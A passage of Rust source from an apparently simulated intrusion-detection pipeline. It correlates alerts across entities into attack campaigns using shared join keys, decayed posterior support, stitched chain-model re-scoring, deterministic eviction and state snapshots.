            .flatten()
            .map(|&(_, ts)| ts)
            .max()
            .unwrap_or(SimTime::EPOCH)
    }

    /// Remember `(id, ts)`: refresh the entity's existing slot if present,
    /// otherwise overwrite the rotation head.
    fn insert(&mut self, id: EntityId, ts: SimTime) {
        for (sid, sts) in self.slots.iter_mut().flatten() {
            if *sid == id {
                if ts > *sts {
                    *sts = ts;
                }
                return;
            }
        }
        self.slots[self.head as usize] = Some((id, ts));
        self.head = (self.head + 1) % RING as u8;
    }
}

/// Per-campaign state: membership, decayed support, link provenance.
#[derive(Debug, Clone)]
struct CampaignState {
    members: Vec<EntityId>,
    links: Vec<CampaignLink>,
    /// Strongest member `(raw id, decayed mass)` — the support anchor.
    best: (u64, f64),
    /// Second-strongest mass, so a member never supports itself.
    second: f64,
    /// Timestamp the support masses were last decayed to.
    support_ts: SimTime,
    promotions: u32,
    detections: u32,
}

impl CampaignState {
    fn new(ts: SimTime, link_cap: usize) -> CampaignState {
        CampaignState {
            members: Vec::with_capacity(4),
            links: Vec::with_capacity(link_cap.min(8)),
            best: (u64::MAX, 0.0),
            second: 0.0,
            support_ts: ts,
            promotions: 0,
            detections: 0,
        }
    }

    /// Decay support toward zero with the policy half-life (evidence-decay
    /// semantics of [`TemporalPolicy`], applied to campaign support).
    fn decay_to(&mut self, ts: SimTime, half_life: Option<SimDuration>) {
        if let Some(hl) = half_life {
            let gap = ts.saturating_since(self.support_ts).as_secs_f64();
            if gap > 0.0 && hl.as_secs_f64() > 0.0 {
                let lambda = 0.5f64.powf(gap / hl.as_secs_f64());
                self.best.1 *= lambda;
                self.second *= lambda;
            }
        }
        if ts > self.support_ts {
            self.support_ts = ts;
        }
    }

    /// Fold one member's current mass into the top-2 support tracker.
    fn update_support(&mut self, raw_id: u64, mass: f64) {
        if self.best.0 == raw_id {
            if mass > self.best.1 {
                self.best.1 = mass;
            }
        } else if mass > self.best.1 {
            self.second = self.best.1;
            self.best = (raw_id, mass);
        } else if mass > self.second {
            self.second = mass;
        }
    }

    /// Campaign support as seen by `raw_id`: the strongest *other*
    /// member's decayed mass.
    fn support_for(&self, raw_id: u64) -> f64 {
        if self.best.0 == raw_id {
            self.second
        } else {
            self.best.1
        }
    }

    fn record_link(&mut self, link: CampaignLink, cap: usize) {
        let dup = self
            .links
            .iter()
            .any(|l| l.a == link.a && l.b == link.b && l.kind == link.kind);
        if !dup && self.links.len() < cap {
            self.links.push(link);
        }
    }
}

/// The cross-entity campaign correlator (see module docs).
///
/// Consumes the detector's outcome stream *in stream order* — executors
/// run it over the merged, order-restored outcome sequence, which is what
/// makes its output byte-identical across inline / threaded / sharded
/// drivers.
#[derive(Debug, Clone)]
pub struct CampaignCorrelator {
    policy: CorrelationPolicy,
    /// The scope entity-key symbols resolve against in reports and
    /// default snapshots — global unless [`set_scope`] rebinds a
    /// tenant-scoped pipeline's correlator.
    ///
    /// [`set_scope`]: CampaignCorrelator::set_scope
    scope: simnet::intern::SymScope,
    /// The tagger's chain model, when attached — enables stitched
    /// sequence re-scoring of merged campaign step rings. Without it the
    /// correlator falls back to posterior fusion alone.
    model: Option<ChainModel>,
    /// Decision stages for stitched replay (mirrors
    /// [`TaggerConfig::decision_stages`]).
    decision_stages: Vec<Stage>,
    entities: FxHashMap<EntityId, EntityNode>,
    keys: FxHashMap<u64, KeyRing>,
    campaigns: FxHashMap<u32, CampaignState>,
    next_campaign: u32,
    promotions: u64,
    tagger_confirmations: u64,
    /// Surfaced-detection latches of *evicted* entities. Eviction frees a
    /// node's graph state, but the fact that the entity has already been
    /// surfaced must survive it: a re-arriving promoted entity that walks
    /// the kill chain again would otherwise surface a second detection
    /// and double-count in the stream report, where the unbounded
    /// correlator counts a confirmation.
    promoted_latches: FxHashSet<EntityId>,
    /// Entity nodes evicted so far (idle/budget sweeps).
    entities_evicted: u64,
    /// Scratch for deterministic eviction sweeps (reused, no steady-state
    /// allocation).
    evict_scratch: Vec<(SimTime, u64)>,
    /// Scratch for stitched replay: merged `(ts, entity, kind)` steps and
    /// the forward-filter distributions (all reused).
    seq_scratch: Vec<(SimTime, u64, u16)>,
    seq_alpha: Vec<f64>,
    seq_next: Vec<f64>,
}

impl CampaignCorrelator {
    pub fn new(policy: CorrelationPolicy) -> CampaignCorrelator {
        CampaignCorrelator {
            policy,
            scope: simnet::intern::SymScope::global(),
            model: None,
            decision_stages: Vec::new(),
            entities: FxHashMap::default(),
            keys: FxHashMap::default(),
            campaigns: FxHashMap::default(),
            next_campaign: 0,
            promotions: 0,
            tagger_confirmations: 0,
            promoted_latches: FxHashSet::default(),
            entities_evicted: 0,
            evict_scratch: Vec::new(),
            seq_scratch: Vec::new(),
            seq_alpha: Vec::new(),
            seq_next: Vec::new(),
        }
    }

    /// A correlator that can stitch: attach the tagger's chain model and
    /// decision stages so merged campaign sequences are re-scored with
    /// the exact inference the per-entity tagger runs.
    pub fn with_model(
        policy: CorrelationPolicy,
        model: ChainModel,
        decision_stages: Vec<Stage>,
    ) -> CampaignCorrelator {
        let mut c = CampaignCorrelator::new(policy);
        c.model = Some(model);
        c.decision_stages = decision_stages;
        c
    }

    pub fn policy(&self) -> &CorrelationPolicy {
        &self.policy
    }

    /// Bind the scope this correlator's alerts are minted in. Report
    /// rendering ([`summaries`](Self::summaries) and friends) and the
    /// no-arg snapshot pair resolve entity keys against it; the default
    /// is the global scope, so only tenant pipelines need to call this.
    pub fn set_scope(&mut self, scope: simnet::intern::SymScope) {
        self.scope = scope;
    }

    /// The scope report rendering resolves against.
    pub fn scope(&self) -> &simnet::intern::SymScope {
        &self.scope
    }

    /// Detections promoted by campaign fusion so far.
    pub fn promotions(&self) -> u64 {
        self.promotions
    }

    /// Tagger detections suppressed because the entity had already been
    /// surfaced by a promotion (the tagger independently confirmed).
    pub fn tagger_confirmations(&self) -> u64 {
        self.tagger_confirmations
    }

    /// Entity nodes currently tracked.
    pub fn tracked_entities(&self) -> usize {
        self.entities.len()
    }

    /// Join-key rings currently tracked.
    pub fn tracked_join_keys(&self) -> usize {
        self.keys.len()
    }

    /// Live campaigns (≥ 2 members by construction).
    pub fn campaign_count(&self) -> usize {
        self.campaigns.len()
    }

    /// Total recorded link provenance across live campaigns.
    pub fn link_count(&self) -> usize {
        self.campaigns.values().map(|c| c.links.len()).sum()
    }

    /// The campaign an entity currently belongs to, if any.
    pub fn campaign_of(&self, id: EntityId) -> Option<u32> {
        self.entities
            .get(&id)
            .map(|n| n.campaign)
            .filter(|&c| c != NO_CAMPAIGN)
    }

    /// Entity nodes evicted so far (idle/budget sweeps).
    pub fn entities_evicted(&self) -> u64 {
        self.entities_evicted
    }

    /// Evicted entities whose surfaced-detection latch is being held
    /// outside the graph (memory-bound side set, cleared on re-arrival).
    pub fn promoted_latched_entities(&self) -> usize {
        self.promoted_latches.len()
    }

    /// Observe one detector outcome in stream order. `attack_score` is the
    /// entity's post-observe posterior mass over the decision stages;
    /// `detection` is the tagger's verdict for this alert, which the
    /// correlator may *promote* (None → fused detection) or *suppress*
    /// (a tagger detection on an entity already surfaced by promotion).
    pub fn observe(&mut self, alert: &Alert, attack_score: f64, detection: &mut Option<Detection>) {
        let ts = alert.ts;
        let id = alert.entity.id();

        // Node upkeep (budget-pressure eviction before a fresh insert).
        if !self.entities.contains_key(&id) && self.entities.len() >= self.policy.max_entities {
            self.evict_entities(ts);
        }
        let half_life = self.policy.decay_half_life;
        // A re-arriving evicted entity restarts with a fresh node but
        // keeps its surfaced-detection latch (see `promoted_latches`).
        let latched = !self.promoted_latches.is_empty() && self.promoted_latches.remove(&id);
        let node = self.entities.entry(id).or_insert(EntityNode {
            campaign: NO_CAMPAIGN,
            mass: 0.0,
            last_ts: ts,
            seen: 0,
            promoted: latched,
            steps: [(SimTime::EPOCH, STEP_EMPTY); SEQ_RING],
            steps_head: 0,
        });
        node.mass = decayed(node.mass, ts.saturating_since(node.last_ts), half_life);
        if attack_score > node.mass {
            node.mass = attack_score;
        }
        node.last_ts = ts;
        node.seen += 1;
        // Every alert becomes a step in the entity's sequence fragment —
        // including low-posterior ones: the opening moves of a kill chain
        // score low on their own, and stitched replay must see them to
        // reproduce what an unsplit entity's filter would have seen.
        // Benign members' steps only dilute a stitched posterior, which
        // errs against promotion.
        node.steps[node.steps_head as usize] = (ts, alert.kind.index() as u16);
        node.steps_head = (node.steps_head + 1) % SEQ_RING as u8;
        let mut node = *node;

        // Link formation through the alert's join keys. On the
        // high-specificity keys (shared victim, shared source endpoint) an
        // entity *occupies* a ring slot as soon as its alert clears the
        // low trace floor — linkable-back-to, nothing more — and links
        // into occupants when this alert clears the join floor. The
        // low-specificity keys (host, palette) recur across thousands of
        // unrelated entities, so both sides demand real mass there:
        // anchor-level to occupy, the weak-join floor to link.
        let anchors = node.mass >= self.policy.anchor_min_score || detection.is_some();
        let mut candidates: [Option<(EntityId, LinkKind)>; 4 * RING] = [None; 4 * RING];
        let mut n_cand = 0;
        for (key, kind) in join_keys(alert).into_iter().flatten() {
            let strong = matches!(kind, LinkKind::Victim | LinkKind::Source);
            let join_floor = if strong {
                self.policy
                    .join_min_score
                    .min(self.policy.sequence_min_score)
            } else {
                self.policy.weak_join_min_score
            };
            let joins = attack_score >= join_floor || detection.is_some();
            let occupies = if strong {
                attack_score >= self.policy.trace_min_score || anchors
            } else {
                anchors
            };
            if !self.keys.contains_key(&key) {
                if !occupies {
                    continue; // nothing to join, nothing to occupy
                }
                if self.keys.len() >= self.policy.max_join_keys {
                    self.evict_keys(ts);
                }
            }
            let ring = self.keys.entry(key).or_default();
            if joins {
                for &(other, ots) in ring.slots.iter().flatten() {
                    let gap = if ots > ts {
                        ots.saturating_since(ts)
                    } else {
                        ts.saturating_since(ots)
                    };
                    if other != id && gap <= self.policy.adjacency_window {
                        candidates[n_cand] = Some((other, kind));
                        n_cand += 1;
                    }
                }
            }
            if occupies {
                ring.insert(id, ts);
            }
        }
        for (other, kind) in candidates.into_iter().flatten() {
            node.campaign = self.link(id, &mut node, other, kind, ts);
        }
        // Publish the updated node (step ring included) before stitched
        // replay — the merge below reads every member through the map.
        self.entities.insert(id, node);

        // Campaign fusion: fold this member's mass into the support
        // tracker, then either account a tagger detection or try to
        // promote a sub-threshold posterior — first with cross-entity
        // posterior fusion, then (when that falls short and a chain model
        // is attached) by re-scoring the stitched campaign sequence.
        if node.campaign != NO_CAMPAIGN {
            let cid = node.campaign;
            let c = self
                .campaigns
                .get_mut(&cid)
                .expect("campaign slot for member");
            c.decay_to(ts, half_life);
            c.update_support(id.raw(), node.mass);
            if detection.is_some() {
                if node.promoted {
                    self.tagger_confirmations += 1;
                    *detection = None;
                } else {
                    node.promoted = true;
                    c.detections += 1;
                }
            } else if !node.promoted && attack_score >= self.policy.sequence_min_score {
                let support = c.support_for(id.raw());
                let mut fused = if attack_score >= self.policy.join_min_score {
                    1.0 - (1.0 - attack_score) * (1.0 - self.policy.coupling * support)
                } else {
                    0.0
                };
                if fused < self.policy.threshold {
                    if let (Some(model), Some(c)) = (self.model.as_ref(), self.campaigns.get(&cid))
                    {
                        let stitched = stitched_sequence_score(
                            model,
                            &self.decision_stages,
                            &self.policy,
                            &self.entities,
                            &c.members,
                            ts,
                            &mut self.seq_scratch,
                            &mut self.seq_alpha,
                            &mut self.seq_next,
                        );
                        fused = fused.max(stitched);
                    }
                }
                if fused >= self.policy.threshold {
                    *detection = Some(Detection {
                        ts,
                        alert_index: node.seen as usize - 1,
                        trigger: alert.kind,
                        score: fused,
                        stage: Stage::Lateral,
                    });
                    node.promoted = true;
                    let c = self.campaigns.get_mut(&cid).expect("campaign slot");
                    c.promotions += 1;
                    c.detections += 1;
                    self.promotions += 1;
                }
            }
        } else if detection.is_some() {
            if node.promoted {
                self.tagger_confirmations += 1;
                *detection = None;
            } else {
                node.promoted = true;
            }
        }

        self.entities.insert(id, node);
    }

    /// Union `id` with `other` (both nodes exist). Returns `id`'s campaign
    /// after the union.
    fn link(
        &mut self,
        id: EntityId,
        node: &mut EntityNode,
        other: EntityId,
        kind: LinkKind,
        ts: SimTime,
    ) -> u32 {
        let Some(other_node) = self.entities.get(&other).copied() else {
            return node.campaign; // anchor evicted between ring hit and now
        };
        let link_cap = self.policy.max_links_per_campaign;
        let (a, b) = if id.raw() <= other.raw() {
            (id, other)
        } else {
            (other, id)
        };
        let link = CampaignLink { ts, a, b, kind };
        let target = match (node.campaign, other_node.campaign) {
            (NO_CAMPAIGN, NO_CAMPAIGN) => {
                let cid = self.next_campaign;
                self.next_campaign += 1;
                let mut c = CampaignState::new(ts, link_cap);
                c.members.push(id);
                c.members.push(other);
                c.update_support(other.raw(), other_node.mass);
                if other_node.promoted {
                    c.detections += 1;
                }
                self.campaigns.insert(cid, c);
                self.entities.get_mut(&other).expect("other node").campaign = cid;
                cid
            }
            (NO_CAMPAIGN, cid) => {
                let c = self.campaigns.get_mut(&cid).expect("campaign slot");
                c.members.push(id);
                cid
            }
            (cid, NO_CAMPAIGN) => {
                let c = self.campaigns.get_mut(&cid).expect("campaign slot");
                c.members.push(other);
                c.update_support(other.raw(), other_node.mass);
                if other_node.promoted {
                    c.detections += 1;
                }
                self.entities.get_mut(&other).expect("other node").campaign = cid;
                cid
            }
            (x, y) if x == y => x,
            (x, y) => self.merge_campaigns(x, y, ts),
        };
        let c = self.campaigns.get_mut(&target).expect("campaign slot");
        c.record_link(link, link_cap);
        node.campaign = target;
        target
    }

    /// Merge the smaller campaign into the larger; returns the surviving
    /// id.
    fn merge_campaigns(&mut self, x: u32, y: u32, ts: SimTime) -> u32 {
        let (keep, drop) = {
            let cx = self.campaigns.get(&x).expect("campaign x").members.len();
            let cy = self.campaigns.get(&y).expect("campaign y").members.len();
            if cx >= cy {
                (x, y)
            } else {
                (y, x)
            }
        };
        let mut dropped = self.campaigns.remove(&drop).expect("dropped campaign");
        let half_life = self.policy.decay_half_life;
        let link_cap = self.policy.max_links_per_campaign;
        dropped.decay_to(ts, half_life);
        for &m in &dropped.members {
            if let Some(n) = self.entities.get_mut(&m) {
                n.campaign = keep;
            }
        }
        let c = self.campaigns.get_mut(&keep).expect("kept campaign");
        c.decay_to(ts, half_life);
        c.members.extend_from_slice(&dropped.members);
        let (bid, bmass) = dropped.best;
        if bid != u64::MAX {
            c.update_support(bid, bmass);
        }
        if dropped.second > 0.0 {
            // Attribution of the runner-up mass is lost in the merge; fold
            // it in as anonymous support so it can still back a member.
            c.update_support(ANON_SUPPORT, dropped.second);
        }
        for l in dropped.links {
            c.record_link(l, link_cap);
        }
        c.promotions += dropped.promotions;
        c.detections += dropped.detections;
        keep
    }

    /// Evict entity nodes: everything idle past the timeout, and at least
    /// enough of the oldest nodes to fall an eighth below the budget.
    /// Deterministic `(last_ts, raw id)` order — executors reach this with
    /// identical state, so eviction cannot perturb byte-identity.
    fn evict_entities(&mut self, now: SimTime) {
        let budget = self.policy.max_entities;
        let keep_target = budget.saturating_sub((budget / 8).max(1));
        self.evict_scratch.clear();
        for (id, n) in &self.entities {
            self.evict_scratch.push((n.last_ts, id.raw()));
        }
        self.evict_scratch.sort_unstable();
        let expired = match self.policy.idle_timeout {
            Some(t) => self
                .evict_scratch
                .iter()
                .take_while(|&&(ts, _)| now.saturating_since(ts) > t)
                .count(),
            None => 0,
        };
        let over = self.entities.len().saturating_sub(keep_target);
        let n_evict = expired.max(over).min(self.evict_scratch.len());
        for i in 0..n_evict {
            let (_, raw) = self.evict_scratch[i];
            self.remove_entity_raw(raw);
        }
    }

    fn remove_entity_raw(&mut self, raw: u64) {
        let Some((&id, _)) = self.entities.iter().find(|(id, _)| id.raw() == raw) else {
            return;
        };
        let node = self.entities.remove(&id).expect("node present");
        self.entities_evicted += 1;
        if node.promoted {
            self.promoted_latches.insert(id);
        }
        if node.campaign == NO_CAMPAIGN {
            return;
        }
        let dissolve = {
            let c = self
                .campaigns
                .get_mut(&node.campaign)
                .expect("member campaign");
            if let Some(pos) = c.members.iter().position(|&m| m == id) {
                c.members.swap_remove(pos);
            }
            c.members.len() < 2
        };
        if dissolve {
            let c = self.campaigns.remove(&node.campaign).expect("campaign");
            for m in c.members {
                if let Some(n) = self.entities.get_mut(&m) {
                    n.campaign = NO_CAMPAIGN;
                }
            }
        }
    }

    /// Evict join-key rings: idle-expired first, then oldest by newest
    /// entry, down to an eighth below the budget.
    fn evict_keys(&mut self, now: SimTime) {
        let budget = self.policy.max_join_keys;
        let keep_target = budget.saturating_sub((budget / 8).max(1));
        self.evict_scratch.clear();
        for (&key, ring) in &self.keys {
            self.evict_scratch.push((ring.newest_ts(), key));
        }
        self.evict_scratch.sort_unstable();
        let expired = match self.policy.idle_timeout {
            Some(t) => self
                .evict_scratch
                .iter()
                .take_while(|&&(ts, _)| now.saturating_since(ts) > t)
                .count(),
            None => 0,
        };
        let over = self.keys.len().saturating_sub(keep_target);
        let n_evict = expired.max(over).min(self.evict_scratch.len());
        for i in 0..n_evict {
            let (_, key) = self.evict_scratch[i];
            self.keys.remove(&key);
        }
    }

    /// Render live campaigns for reports: members and links sorted into
    /// canonical order, campaigns ordered by id. Allocates (report-time
    /// only, never on the per-alert path).
    pub fn summaries(&self) -> Vec<CampaignSummary> {
        let scope = &self.scope;
        let mut out: Vec<CampaignSummary> = self
            .campaigns
            .iter()
            .map(|(&id, c)| {
                let mut members: Vec<String> = c.members.iter().map(|m| m.key_in(scope)).collect();
                members.sort_unstable();
                let mut links: Vec<LinkSummary> = c
                    .links
                    .iter()
                    .map(|l| LinkSummary {
                        ts: l.ts,
                        a: l.a.key_in(scope),
                        b: l.b.key_in(scope),
                        kind: l.kind,
                    })
                    .collect();
                links.sort_by(|x, y| (x.ts, &x.a, &x.b, x.kind).cmp(&(y.ts, &y.a, &y.b, y.kind)));
                CampaignSummary {
                    id,
                    members,
                    links,
                    promotions: c.promotions,
                    detections: c.detections,
                }
            })
            .collect();
        out.sort_by_key(|c| c.id);
        out
    }

    /// The current campaign partition as sorted member-key sets (sorted
    /// outer list) — the order-insensitive view of link formation.
    pub fn partition(&self) -> Vec<Vec<String>> {
        let mut out: Vec<Vec<String>> = self
            .campaigns
            .values()
            .map(|c| {
                let mut m: Vec<String> = c.members.iter().map(|e| e.key_in(&self.scope)).collect();
                m.sort_unstable();
                m
            })
            .collect();
        out.sort();
        out
    }

    /// Recorded link endpoints `(a, b, kind)` across campaigns, sorted and
    /// deduplicated — link *timestamps* depend on arrival order within a
    /// batch, endpoints do not.
    pub fn link_pairs(&self) -> Vec<(String, String, LinkKind)> {
        let mut out: Vec<(String, String, LinkKind)> = self
            .campaigns
            .values()
            .flat_map(|c| c.links.iter())
            .map(|l| (l.a.key_in(&self.scope), l.b.key_in(&self.scope), l.kind))
            .collect();
        out.sort();
        out.dedup();
        out
    }

    /// Render the full correlator state as a process-independent,
    /// deterministically ordered snapshot (see [`CorrelatorSnapshot`]).
    /// Allocates — snapshot/report time only, never on the alert path.
    pub fn export_state(&self) -> CorrelatorSnapshot {
        self.export_state_in(&self.scope)
    }

    /// [`export_state`](Self::export_state) resolving entity keys and
    /// palette payloads against an explicit scope — required when the
    /// correlator's alerts were minted in a tenant scope.
    pub fn export_state_in(&self, scope: &simnet::intern::SymScope) -> CorrelatorSnapshot {
        let mut entities: Vec<CorrelatorEntitySnapshot> = self
            .entities
            .iter()
            .map(|(&id, n)| CorrelatorEntitySnapshot {
                entity: id.key_in(scope),
                campaign: n.campaign,
                mass: n.mass,
                last_ts: n.last_ts,
                seen: n.seen,
                promoted: n.promoted,
                steps: n.steps.to_vec(),
                steps_head: n.steps_head,
            })
            .collect();
        entities.sort_by(|a, b| a.entity.cmp(&b.entity));
        let mut keys: Vec<JoinKeySnapshot> = self
            .keys
            .iter()
            .map(|(&key, ring)| {
                let (kind, addr, palette) = decode_join_key(key, scope);
                JoinKeySnapshot {
                    kind,
                    addr,
                    palette,
                    slots: ring
                        .slots
                        .iter()
                        .map(|s| s.map(|(id, ts)| (id.key_in(scope), ts)))
                        .collect(),
                    head: ring.head,
                }
            })
            .collect();
        keys.sort_by(|a, b| (a.kind, a.addr, &a.palette).cmp(&(b.kind, b.addr, &b.palette)));
        let mut campaigns: Vec<CampaignSnapshot> = self
            .campaigns
            .iter()
            .map(|(&id, c)| {
                let (best_key, best_mass) = if c.best.0 >= ANON_SUPPORT {
                    // Either the initial sentinel (mass 0) or anonymous
                    // post-merge support — attribution is absent in both.
                    (None, c.best.1)
                } else {
                    (Some(EntityId::from_raw(c.best.0).key_in(scope)), c.best.1)
                };
                CampaignSnapshot {
                    id,
                    members: c.members.iter().map(|m| m.key_in(scope)).collect(),
                    links: c
                        .links
                        .iter()
                        .map(|l| LinkSummary {
                            ts: l.ts,
                            a: l.a.key_in(scope),
                            b: l.b.key_in(scope),
                            kind: l.kind,
                        })
                        .collect(),
                    best_key,
                    best_mass,
                    second: c.second,
                    support_ts: c.support_ts,
                    promotions: c.promotions,
                    detections: c.detections,
                }
            })
            .collect();
        campaigns.sort_by_key(|c| c.id);
        let mut promoted_latches: Vec<String> = self
            .promoted_latches
            .iter()
            .map(|id| id.key_in(scope))
            .collect();
        promoted_latches.sort_unstable();
        CorrelatorSnapshot {
            entities,
            keys,
            campaigns,
            promoted_latches,
            next_campaign: self.next_campaign,
            promotions: self.promotions,
            tagger_confirmations: self.tagger_confirmations,
            entities_evicted: self.entities_evicted,
        }
    }

    /// Replace the correlator's state with a snapshot's. Entity keys are
    /// re-interned in this process, so a restored correlator continues
    /// the stream with byte-identical detections even across a restart.
    /// Panics on a malformed snapshot (unparseable key, wrong ring
    /// arity) — snapshots are trusted state, not user input.
    pub fn import_state(&mut self, snap: &CorrelatorSnapshot) {
        self.import_state_in(snap, &self.scope.clone());
    }

    /// [`import_state`](Self::import_state) re-interning entity keys and
    /// palette payloads into an explicit scope.
    pub fn import_state_in(&mut self, snap: &CorrelatorSnapshot, scope: &simnet::intern::SymScope) {
        let from_key = |k: &str| {
            EntityId::from_key_in(k, scope).unwrap_or_else(|| panic!("bad entity key {k:?}"))
        };
        self.entities.clear();
        self.keys.clear();
        self.campaigns.clear();
        self.promoted_latches.clear();
        for e in &snap.entities {
            assert_eq!(e.steps.len(), SEQ_RING, "snapshot step-ring arity");
            let mut steps = [(SimTime::EPOCH, STEP_EMPTY); SEQ_RING];
            steps.copy_from_slice(&e.steps);
            self.entities.insert(
                from_key(&e.entity),
                EntityNode {
                    campaign: e.campaign,
                    mass: e.mass,
                    last_ts: e.last_ts,
                    seen: e.seen,
                    promoted: e.promoted,
                    steps,
                    steps_head: e.steps_head,
                },
            );
        }
        for k in &snap.keys {
            assert_eq!(k.slots.len(), RING, "snapshot key-ring arity");
            let mut ring = KeyRing::default();
            for (slot, s) in ring.slots.iter_mut().zip(&k.slots) {
                *slot = s.as_ref().map(|(key, ts)| (from_key(key), *ts));
            }
            ring.head = k.head;
            self.keys.insert(
                encode_join_key(k.kind, k.addr, k.palette.as_deref(), scope),
                ring,
            );
        }
        for c in &snap.campaigns {
            let best = match &c.best_key {
                Some(k) => (from_key(k).raw(), c.best_mass),
                None if c.best_mass > 0.0 => (ANON_SUPPORT, c.best_mass),
                None => (u64::MAX, 0.0),
            };
            self.campaigns.insert(
                c.id,
                CampaignState {
                    members: c.members.iter().map(|m| from_key(m)).collect(),
                    links: c
                        .links
                        .iter()
                        .map(|l| CampaignLink {
                            ts: l.ts,
                            a: from_key(&l.a),
                            b: from_key(&l.b),
                            kind: l.kind,
                        })
                        .collect(),
                    best,
                    second: c.second,
                    support_ts: c.support_ts,
                    promotions: c.promotions,
                    detections: c.detections,
                },
            );
        }
        for k in &snap.promoted_latches {
            self.promoted_latches.insert(from_key(k));
        }
        self.next_campaign = snap.next_campaign;
        self.promotions = snap.promotions;
        self.tagger_confirmations = snap.tagger_confirmations;
        self.entities_evicted = snap.entities_evicted;
    }
}

/// Re-score the stitched campaign sequence: merge the members' step rings
/// in `(ts, entity, kind)` order (bounded window, bounded member prefix)
/// and run the chain model's forward filter over the merged steps —
/// the same inference the per-entity tagger applies, including gap
/// observations and evidence decay toward the prior. Returns the decision
/// mass of the final posterior, or `0.0` when the merge holds fewer than
/// two steps or only one entity contributed (a single member's fragment
/// is the tagger's own problem; stitching exists for *cross-entity*
/// recovery).
///
/// Deterministic and allocation-free in steady state: the merge and the
/// two filter distributions live in caller-owned reusable scratch.
#[allow(clippy::too_many_arguments)]
fn stitched_sequence_score(
    model: &ChainModel,
    decision_stages: &[Stage],
    policy: &CorrelationPolicy,
    entities: &FxHashMap<EntityId, EntityNode>,
    members: &[EntityId],
    now: SimTime,
    order: &mut Vec<(SimTime, u64, u16)>,
    alpha: &mut Vec<f64>,
    next: &mut Vec<f64>,
) -> f64 {
    order.clear();
    for &m in members.iter().take(SEQ_MEMBERS) {
        let Some(n) = entities.get(&m) else { continue };
        for &(ts, kind) in &n.steps {
            if kind != STEP_EMPTY
                && ts <= now
                && now.saturating_since(ts) <= policy.adjacency_window
            {
                order.push((ts, m.raw(), kind));
            }
        }
    }
    if order.len() < 2 || order.iter().all(|&(_, e, _)| e == order[0].1) {
        return 0.0;
    }
    order.sort_unstable();
    let s_n = Stage::COUNT;
    alpha.clear();
    alpha.resize(s_n, 0.0);
    next.clear();
    next.resize(s_n, 0.0);
    let mut last_ts = SimTime::EPOCH;
    for (steps, &(ts, _, kind)) in order.iter().enumerate() {
        let obs = kind as usize;
        let mut gap_bin = GAP_NONE;
        if steps > 0 {
            let gap = ts.saturating_since(last_ts);
            if let Some(hl) = policy.decay_half_life {
                let hl_s = hl.as_secs_f64();
                if hl_s > 0.0 {
                    let lambda = 0.5f64.powf(gap.as_secs_f64() / hl_s);
                    for (a, &p) in alpha.iter_mut().zip(model.prior()) {
                        *a = lambda * *a + (1.0 - lambda) * p;
                    }
                }
            }
            gap_bin = model.gap_bin(gap.as_secs_f64());
        }
        last_ts = ts;
        if steps == 0 {
            for (s, n) in next.iter_mut().enumerate() {
                *n = model.prior()[s] * model.emit(s, obs);
            }
        } else {
            for (s, n) in next.iter_mut().enumerate() {
                let mut acc = 0.0;
                for (ps, &a) in alpha.iter().enumerate() {
                    acc += a * model.trans(ps, s);
                }
                *n = acc * model.emit(s, obs) * model.gap_emit(s, gap_bin);
            }
        }
        let norm: f64 = next.iter().sum();
        if norm > 0.0 {
            for x in next.iter_mut() {
                *x /= norm;
            }
        } else {
            next.fill(1.0 / s_n as f64);
        }
        alpha.copy_from_slice(next);
    }
    decision_stages.iter().map(|s| alpha[s.index()]).sum()
}

/// Decay a mass by the half-life over `gap` (no-op when disabled).
fn decayed(mass: f64, gap: SimDuration, half_life: Option<SimDuration>) -> f64 {
    match half_life {
        Some(hl) if hl.as_secs_f64() > 0.0 && gap.as_secs_f64() > 0.0 => {
            mass * 0.5f64.powf(gap.as_secs_f64() / hl.as_secs_f64())
        }
        _ => mass,
    }
}

/// Compact join keys carried by one alert (tag | 32-bit payload).
fn join_keys(alert: &Alert) -> [Option<(u64, LinkKind)>; 4] {
    let mut out = [None; 4];
    if let Some(dst) = alert.dst {
        out[0] = Some((JK_VICTIM | u64::from(u32::from(dst)), LinkKind::Victim));
    }
    if let Some(src) = alert.src {
        out[1] = Some((JK_SOURCE | u64::from(u32::from(src)), LinkKind::Source));
    }
    if let Some(host) = alert.host {
        out[2] = Some((JK_HOST | u64::from(host.0), LinkKind::Host));
    }
    if let Some(sym) = palette_sym(&alert.message) {
        out[3] = Some((JK_PALETTE | u64::from(sym.id()), LinkKind::Palette));
    }
    out
}

/// Decompose a compact join key for snapshots: palette payloads resolve
/// to their interned string (sym ids are scope-local), the rest keep
/// their raw 32-bit payload.
fn decode_join_key(key: u64, scope: &simnet::intern::SymScope) -> (LinkKind, u32, Option<String>) {
    let payload = key as u32;
    match key & !0xFFFF_FFFF {
        JK_VICTIM => (LinkKind::Victim, payload, None),
        JK_SOURCE => (LinkKind::Source, payload, None),
        JK_HOST => (LinkKind::Host, payload, None),
        JK_PALETTE => (
            LinkKind::Palette,
            0,
            Some(scope.resolve(scope.sym_from_id(payload)).to_string()),
        ),
        _ => unreachable!("join key with unknown tag"),
    }
}

/// Rebuild a compact join key from its snapshot form, re-interning
/// palette payloads in the restoring scope.
fn encode_join_key(
    kind: LinkKind,
    addr: u32,
    palette: Option<&str>,
    scope: &simnet::intern::SymScope,
) -> u64 {
    match kind {
        LinkKind::Victim => JK_VICTIM | u64::from(addr),
        LinkKind::Source => JK_SOURCE | u64::from(addr),
        LinkKind::Host => JK_HOST | u64::from(addr),
        LinkKind::Palette => {
            let s = palette.expect("palette join key without payload");
            JK_PALETTE | u64::from(scope.sym(s).id())
        }
    }
}

/// The interned payload symbol of exec-flavoured messages — the
/// "cmdline/exe palette" join key.
fn palette_sym(msg: &MessageSpec) -> Option<simnet::intern::Sym> {
    match *msg {
        MessageSpec::Exec { cmdline, .. } => Some(cmdline),
        MessageSpec::FileDrop { process, .. } => Some(process),
        MessageSpec::CopyFromProgram { program } => Some(program),
        _ => None,
    }
}

/// An [`AttackTagger`] with campaign correlation fused in — the
/// direct-drive convenience the stream executors mirror (they run the
/// same two steps, split across the shard boundary).
#[derive(Debug, Clone)]
pub struct CorrelatedTagger {
    tagger: AttackTagger,
    correlator: CampaignCorrelator,
}

impl CorrelatedTagger {
    /// Build from a tagger, using its configured
    /// [`TaggerConfig::correlation`] policy (default policy if unset).
    pub fn new(tagger: AttackTagger) -> CorrelatedTagger {
        let policy = tagger.config().correlation.clone().unwrap_or_default();
        CorrelatedTagger::with_policy(tagger, policy)
    }

    pub fn with_policy(tagger: AttackTagger, policy: CorrelationPolicy) -> CorrelatedTagger {
        let correlator = CampaignCorrelator::with_model(
            policy,
            tagger.model().clone(),
            tagger.config().decision_stages.clone(),
        );
        CorrelatedTagger { tagger, correlator }
    }

